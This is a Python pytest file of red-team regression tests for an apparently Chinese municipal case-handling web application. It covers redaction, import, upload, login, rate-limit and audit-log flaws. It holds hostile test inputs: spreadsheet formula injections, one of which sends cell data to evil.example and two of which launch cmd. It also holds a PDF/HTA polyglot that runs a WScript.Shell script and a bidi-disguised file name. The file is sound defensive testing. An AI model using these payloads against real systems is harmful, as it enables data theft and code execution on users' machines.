"""Red-team findings after the security fixes of issue #12: one test per finding, named for what must hold.

Each test failed on the code it was written against. Those whose fix is not in this branch are marked
`xfail(strict=True)` with the reason; they start passing (and then fail as XPASS) once fixed.
"""

from __future__ import annotations

import csv
import io
from datetime import datetime, timedelta, timezone

import pytest
import time_machine
from django.core.management import CommandError, call_command
from django.test import Client

from taizhang.cases.attachments import do_upload_attachment
from taizhang.cases.audit_keys import write_keypair
from taizhang.cases.create import CaseInput, do_create_case
from taizhang.cases.models import AuditCheckpoint, AuditCheckpointHeads, Case
from taizhang.intake.importer.mapping import load_mapping
from taizhang.intake.importer.run import run_import
from taizhang.org.models import Membership, User
from taizhang.text import normalise_text
from tests.cases.helpers import report, to_rectifying
from tests.security.test_audit_record import rewrite_history
from tests.web.test_portal import demand_form

pytestmark = pytest.mark.django_db

CST = timezone(timedelta(hours=8))
NOW = datetime(2026, 11, 24, 10, 0, tzinfo=CST)  # a working Tuesday


@pytest.fixture(autouse=True)
def frozen():
    with time_machine.travel(NOW, tick=False) as traveller:
        yield traveller


# -- 1. redaction: phone numbers typed with a Chinese keyboard's separators --------------------------------


@pytest.mark.parametrize(
    "written",
    ["139－8765－4321", "139—8765—4321", "139.8765.4321", "139 8765 4321", "(139)8765-4321"],
    ids=["fullwidth-hyphen", "em-dash", "dots", "ideographic-space", "brackets"],
)
def test_public_outputs_mask_phone_numbers_whatever_separators_they_are_typed_with(world, written):
    """A Chinese IME in full-width mode types 139－8765－4321; the ledger and Open311 must mask it like
    13987654321, whether or not it is the caller's own number."""
    case, _ = do_create_case(
        world.dispatcher,
        CaseInput(
            mechanism="demand",
            title="楼道堆物",
            category="complaint",
            channel="hotline",
            division="WMJD-HX-01",
            description=f"楼道堆满杂物，请联系我{written}，另有邻居电话{written.replace('8765', '2468')}",
            fields={"caller_name": "欧阳娜娜", "caller_phone": "13987654321"},
        ),
    )
    visitor = Client()
    bodies = [
        visitor.get(f"/portal/ledger/{case.number}/").content.decode(),
        visitor.get("/open311/v2/requests.json", {"service_request_id": case.number}).content.decode(),
    ]
    assert "楼道堆满杂物" in bodies[0]
    for body in bodies:
        assert "8765" not in body and "2468" not in body, body


# -- 2. formula injection in the import's error file --------------------------------------------------------


def test_the_import_error_file_never_starts_a_cell_with_a_formula(tmp_path, world):
    """The rejected value of another system's export goes into FILE.errors.csv, which an operator opens in
    Excel or WPS: a cell starting with = + - @ must not be a live formula there."""
    importer = User.objects.create_user(username="daoru", password="pw-daoru", display_name="导入专员")
    Membership.objects.create(user=importer, role="intake", division=world.district)
    mapping = tmp_path / "mapping.yaml"
    mapping.write_text(
        "mechanism: demand\nreporter: daoru\nexternal_id: 工单编号\n"
        "created: {column: 来电时间, format: ['%Y-%m-%d %H:%M:%S']}\n"
        "division: {column: 所属街道, default: LZQ}\n"
        "category: {column: 诉求类型, values: {投诉: complaint}}\n"
        "grade: {value: general}\ntitle: {column: 诉求内容, truncate: 40}\ndescription: 诉求内容\n",
        encoding="utf-8",
    )
    payloads = [
        '=HYPERLINK("http://evil.example/?"&A1,"点击查看")',
        "+cmd|' /C calc'!A0",
        "@SUM(1+1)*cmd|' /C calc'!A0",
    ]
    source = tmp_path / "orders.csv"
    with open(source, "w", encoding="utf-8", newline="") as f:
        writer = csv.writer(f)
        writer.writerow(["工单编号", "来电时间", "诉求内容", "诉求类型", "所属街道"])
        for i, payload in enumerate(payloads):
            writer.writerow([f"GD{i}", "2026-10-01 09:00:00", "路灯不亮", payload, ""])
    summary = run_import(source, load_mapping(mapping))
    assert summary.rejected == len(payloads)
    with open(summary.errors_path, encoding="utf-8-sig", newline="") as f:
        cells = [cell for row in list(csv.reader(f))[1:] for cell in row]
    assert any("HYPERLINK" in c for c in cells)  # the value is still reported, as inert text
    assert not [c for c in cells if c[:1] in ("=", "+", "-", "@", "\t", "\r")]


# -- 3. downloads carry the attacker's file name -------------------------------------------------------------


PDF = b"%PDF-1.4\n<HTA:APPLICATION><script>new ActiveXObject('WScript.Shell').Run('calc')</script>\n%%EOF\n"


@pytest.mark.parametrize(
    "name", ["整改报告.pdf.hta", "整改报告\u202eftp.hta", "report.html"], ids=["hta", "bidi", "html"]
)
def test_a_download_is_named_with_the_extension_of_its_sniffed_type(client, world, name):
    """A PDF that is also an HTA (mshta reads HTML anywhere in a file) uploaded as 整改报告.pdf.hta was
    saved under that name by whoever downloaded it: one double-click runs its script. The name a download
    gets must end in the sniffed type's extension and hold no bidi control (U+202E shows ath.pdf)."""
    attachment = do_upload_attachment(world.grid_worker, name, io.BytesIO(PDF), len(PDF))
    client.force_login(world.grid_worker)
    response = client.get(f"/api/v1/attachments/{attachment.pk}")
    assert response.status_code == 200
    disposition = response["Content-Disposition"]
    assert disposition.startswith("attachment;")
    assert "\u202e" not in disposition and "%E2%80%AE" not in disposition.upper()
    filename = disposition.split("filename", 1)[1]
    assert filename.rstrip('"').endswith(".pdf"), disposition


# -- 4. bidi overrides in user text ---------------------------------------------------------------------------


def test_bidi_override_and_isolate_controls_are_removed_at_intake(world):
    """U+202E and its kin reorder what follows them on screen (a title or file name reads other than it
    is: "Trojan Source"); Chinese text never needs them. The marks (U+200E, U+200F) stay."""
    case = report(world, title="配电箱\u202e无防护\u202c隐患\u2066x\u2069", description="a\u200fb")
    case = Case.objects.get(pk=case.pk)
    assert case.title == "配电箱无防护隐患x" and case.description == "a\u200fb"
    assert normalise_text("\u202a\u202b\u202c\u202d\u202e\u2066\u2067\u2068\u2069") == ""


# -- 5. NUL bytes in a URL -------------------------------------------------------------------------------------


@pytest.mark.parametrize(
    "url",
    [
        "/portal/ledger/?division=%00",
        "/portal/ledger/a%00/",
        "/open311/v2/requests.json?jurisdiction_id=%00",
        "/open311/v2/requests.json?service_request_id=%00",
        "/api/v1/cases/a%00b",
        "/cases/?q=a%00b",
    ],
)
def test_a_nul_byte_in_the_url_is_refused_not_a_server_error(world, url):
    """PostgreSQL cannot hold NUL in text: any such parameter reaching a query raised DataError (500),
    for anonymous visitors too. It is refused up front (taizhang.web.malformed: 400 in the path, 422
    naming the query parameter), on every database alike."""
    client = Client(raise_request_exception=False)
    client.force_login(world.leader)
    response = client.get(url)
    assert response.status_code in (400, 422), (url, response.status_code)
    assert "Content-Security-Policy" in response


# -- 6. lock-out of an innocent account ----------------------------------------------------------------------


def test_failures_from_strangers_do_not_lock_the_owner_out_where_they_signed_in_before(world):
    owner = Client(REMOTE_ADDR="198.51.100.7")
    assert owner.post("/login/", {"username": "paiqian", "password": "pw-paiqian"}).status_code == 302
    owner.post("/logout/")
    attacker = Client()
    for i in range(6):
        attacker.post("/login/", {"username": "paiqian", "password": "guess"}, REMOTE_ADDR=f"203.0.113.{i}")
    response = owner.post("/login/", {"username": "paiqian", "password": "pw-paiqian"})
    assert response.status_code == 302, response.status_code


# -- 7. IPv6 senders -----------------------------------------------------------------------------------------


def test_addresses_of_one_ipv6_subscriber_share_the_portal_limit(world, settings):
    settings.TAIZHANG_PORTAL_MAX_PER_HOUR = 2
    for i in range(1, 4):
        Client().post(
            "/portal/new/", demand_form(world, idempotency_key=f"k{i}"), REMOTE_ADDR=f"2001:db8:1:2::{i}"
        )
    assert Case.objects.count() == 2


# -- 8. audit: deleting every checkpoint -----------------------------------------------------------------------


def test_deleting_every_checkpoint_is_not_a_way_to_rewrite_history(world, tmp_path, settings):
    private, public = tmp_path / "audit.key", tmp_path / "audit.pub"
    write_keypair(private, public)
    settings.TAIZHANG_AUDIT_SIGNING_KEY = str(private)
    settings.TAIZHANG_AUDIT_VERIFY_KEY = [str(public)]
    settings.TAIZHANG_AUDIT_CHECKPOINT_LOG = str(tmp_path / "checkpoints.jsonl")  # required with the key
    case = to_rectifying(world, report(world))
    call_command("audit", "checkpoint", "--first")
    AuditCheckpointHeads.objects.all().delete()
    AuditCheckpoint.objects.all().delete()
    rewrite_history(case, 2, "伪造的立案意见")
    with pytest.raises(CommandError, match="检查点日志记有检查点 #1，数据库中却没有"):
        call_command("audit", "checkpoint")  # the signer never signs the rewritten history
    settings.TAIZHANG_AUDIT_CHECKPOINT_LOG = ""  # an auditor who has only the public key
    with pytest.raises(CommandError, match="数据库中没有任何签名检查点"):
        call_command("audit", "verify")
